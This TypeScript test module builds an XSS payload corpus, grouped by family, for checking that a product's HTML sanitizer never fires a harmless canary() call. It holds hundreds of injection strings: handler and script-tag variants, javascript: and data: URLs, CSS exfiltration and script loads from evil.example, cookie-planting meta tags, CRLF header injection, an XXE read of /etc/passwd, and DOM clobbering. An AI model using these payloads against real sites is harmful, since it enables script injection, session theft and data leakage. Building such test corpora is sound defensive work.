import { readFileSync } from 'node:fs';
import path from 'node:path';
import { FOREIGN, MUTATIONS } from './foreign-payloads.ts';
import { MARKDOWN } from './markdown-payloads.ts';

/** The function that every payload tries to call. Test pages define it, and it must never be called. */
export const CANARY = 'canary';
const C = `${CANARY}()`;

const HANDLERS = (
  'onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover onpointerdown onkeydown onanimationstart ' +
  'onanimationend ontransitionend onwheel onscroll onscrollend ontoggle onbeforetoggle onbeforeinput oninput onchange ' +
  'oncut oncopy onpaste ondrag ondrop oncontextmenu onauxclick onresize onhashchange onpageshow onpopstate onmessage ' +
  'onbegin onend onrepeat onplay oncanplay onloadstart onloadedmetadata onstart onfinish onbounce onsearch oninvalid ' +
  'onreset onsubmit onselect onformdata oncuechange onsecuritypolicyviolation onunhandledrejection oncontentvisibilityautostatechange'
).split(' ');

const ELEMENTS = (
  'img svg body video audio iframe details input select textarea button form marquee math a div p table td custom-element ' +
  'object embed frameset frame keygen isindex applet layer ilayer bgsound dialog link style meta source track picture'
).split(' ');

const handlers = [
  ...HANDLERS.map((name) => `<img src=x id=k tabindex=1 autofocus style=display:block ${name}=${C}>`),
  ...ELEMENTS.map(
    (name) => `<${name} src=x href=x data=x open autofocus onerror=${C} onload=${C} onfocus=${C}>x</${name}>`,
  ),
  ...['/', '\t', '\n', '\f', '\r', '//', '\u00a0', '/**/', ' / '].map(
    (gap) => `<img${gap}src=x${gap}onerror=${C}>`,
  ),
  ...['\t', '\n', '\f', ' ', '  '].map((gap) => `<img src=x onerror${gap}=${gap}"${C}">`),
  `<IMG SRC=x OnErRoR=${C}>`,
  `<img src="x" onerror="&#99;anary()">`,
  `<img src=x onerror=\`${C}\`>`,
  `<img src=x onerror="throw onerror=${CANARY},1">`,
  `<img src=x onerror=${CANARY}\`\`>`,
  `<img """><script>${C}</script>">`,
  `<img src=x:x onerror\u200b=${C}>`,
  `<x onclick=${C}>press</x>`,
  `<details open ontoggle=${C}><summary>s</summary></details>`,
  `<div popover id=pop onbeforetoggle=${C}>a</div><button popovertarget=pop>b</button>`,
];

const scripts = [
  `<script>${C}</script>`,
  `<script/x>${C}</script/x>`,
  `<scr<script>ipt>${C}</scr</script>ipt>`,
  `<script src=data:,${C}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script>${C}//`,
  `<<script>${C}//<</script>`,
  `<script><!--\n${C}//--></script>`,
  `<script>\u2028${C}</script>`,
  `<\u0000script>${C}</script>`,
  `%3Cscript%3E${C}%3C/script%3E`,
  `&lt;script&gt;${C}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${C}`,
  `\\u003cscript\\u003e${C}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${C}\\x3c/script\\x3e`,
  `\uff1cscript\uff1e${C}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${C}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${C}\u00bc/script\u00be`,
];

const ADDRESSES = [
  `javascript:${C}`,
  `JaVaScRiPt:${C}`,
  `\tjavascript:${C}`,
  `java\tscript:${C}`,
  `java\nscript:${C}`,
  `javascript\t:${C}`,
  `\u0001javascript:${C}`,
  `\u00a0javascript:${C}`,
  `\ufeffjavascript:${C}`,
  `&#106;avascript:${C}`,
  `&#0000106avascript:${C}`,
  `jav&#x09;ascript:${C}`,
  `jav&Tab;ascript:${C}`,
  `javascript&colon;${C}`,
  `&#14; javascript:${C}`,
  `javascript://%0a${C}`,
  `javascript:\`\${${C}}\``,
  `jav\u0000ascript:${C}`,
  `%6aavascript:${C}`,
  `vbscript:${C}`,
  `data:text/html,<script>${C}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${C}'/>`,
  `data&colon;text/html,${C}`,
  `blob:${C}`,
  `view-source:javascript:${C}`,
  `//evil.example/%0d%0aSet-Cookie:x=1`,
  `\\\\evil.example\\x`,
];

const addresses = ADDRESSES.flatMap((address) => [`<a href="${address}">link</a>`, `<img src="${address}">`]);

const carriers = [
  `<iframe src=javascript:${C}></iframe>`,
  `<iframe srcdoc="<script>parent.${C}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${C}&gt;"></iframe>`,
  `<object data=javascript:${C}></object>`,
  `<embed src=javascript:${C}>`,
  `<form action=javascript:${C}><button>x</button></form>`,
  `<button form=f formaction=javascript:${C}>x</button><form id=f></form>`,
  `<a href=x ping=javascript:${C}>x</a>`,
  `<table background=javascript:${C}><tr><td background=javascript:${C}>x</td></tr></table>`,
  `<img srcset="javascript:${C} 1x, x 2x" src=x onerror=${C}>`,
  `<img srcset=",,x 2x" sizes=1px onerror=${C}>`,
  `<picture><source srcset="x" onerror=${C}><img src=x onerror=${C}></picture>`,
  `<link rel=import href=//evil.example/x>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${C}">`,
  `<meta http-equiv="refresh" content="0; //evil.example/">`,
  `<meta http-equiv=set-cookie content="verve.sid=planted">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta charset=utf-7>`,
  `<base href=//evil.example/>`,
  `<base href="javascript:/a/-${C}//"><a href=#>x</a>`,
  `<base target=_blank>`,
  `<portal src=javascript:${C}></portal>`,
  `<template shadowrootmode=open><script>${C}</script></template>`,
  `<map name=m><area shape=default href=javascript:${C}></map><img usemap=#m src=x>`,
  `<!--[if gte IE 4]><script>${C}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${C}"?>`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>`,
];

const styles = [
  `<style>@import'//evil.example/x.css';</style>`,
  `<style>*{background:url(javascript:${C})}</style>`,
  `<style onload=${C}></style>`,
  `<style><img src="</style><img src=x onerror=${C}//">`,
  `<div style="background:url(javascript:${C})">x</div>`,
  `<div style="width:expression(${C})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999">covers the page</div>`,
  `<div style="background:url(//evil.example/?leak)">x</div>`,
  `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
  `<p style=animation-name:x onanimationstart=${C}>x</p>`,
];

const breakouts = [
  `"><img src=x onerror=${C}>`,
  `'><img src=x onerror=${C}>`,
  `\`><img src=x onerror=${C}>`,
  `" autofocus onfocus=${C} x="`,
  `" style="x:expression(${C})`,
  `x" srcdoc="<script>${C}</script>`,
  `</script><script>${C}</script>`,
  `</title><script>${C}</script>`,
  `</style><script>${C}</script>`,
  `--><script>${C}</script>`,
  `]]><script>${C}</script>`,
  `<!--<script>${C}`,
  `"};${C};//`,
  `';${C};//`,
  `\\";${C};//`,
  `\u2028;${C};\u2029`,
  `"-${C}-"`,
  `\${${C}}`,
  `{{constructor.constructor('${C}')()}}`,
  `[[\${${C}}]]`,
  `{"__html":"<img src=x onerror=${C}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${C}>"}}`,
  `","__proto__":{"src":"javascript:${C}"},"x":"`,
  `x\r\nSet-Cookie: canary=1\r\n\r\n<script>${C}</script>`,
  `=HYPERLINK("javascript:${C}","x")`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${C} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${C}//>\\x3e`,
];

const clobbering = [
  ...[
    'body',
    'head',
    'cookie',
    'location',
    'forms',
    'getElementById',
    'querySelector',
    'documentElement',
  ].map((name) => `<img name=${name} src=x><a id=${name} name=${name} href=x>x</a>`),
  `<form id=root><input name=attributes><input name=innerHTML></form>`,
  `<div id="page-data">{"queries":[]}</div>`,
  `<script id=page-data type=application/json>{"queries":[]}</script>`,
  `<a id=dataLayer href=x>x</a><a id=gtag href=x>x</a>`,
  `<a id=__proto__ href=x>x</a><a id=constructor name=prototype href=x>x</a>`,
  `<a id=config><a id=config name=url href=javascript:${C}>x</a></a>`,
  `<iframe name=self src=about:blank></iframe>`,
];

/** Optional external lists: files with one payload per line, or a JSON array. */
const listed = (process.env.PAYLOAD_LISTS ?? '')
  .split(path.delimiter)
  .filter(Boolean)
  .flatMap((file) => {
    const text = readFileSync(file, 'utf8');
    return file.endsWith('.json') ? (JSON.parse(text) as string[]) : text.split('\n').filter(Boolean);
  });

/** XSS payloads by family; all but `listed` were written for this product. */
export const FAMILIES: { readonly [family: string]: readonly string[] } = {
  handlers,
  scripts,
  addresses,
  carriers,
  styles,
  foreign: FOREIGN,
  mutations: MUTATIONS,
  breakouts,
  clobbering,
  markdown: MARKDOWN,
  ...(listed.length > 0 && { listed }),
};

export const PAYLOADS: readonly string[] = [...new Set(Object.values(FAMILIES).flat())];
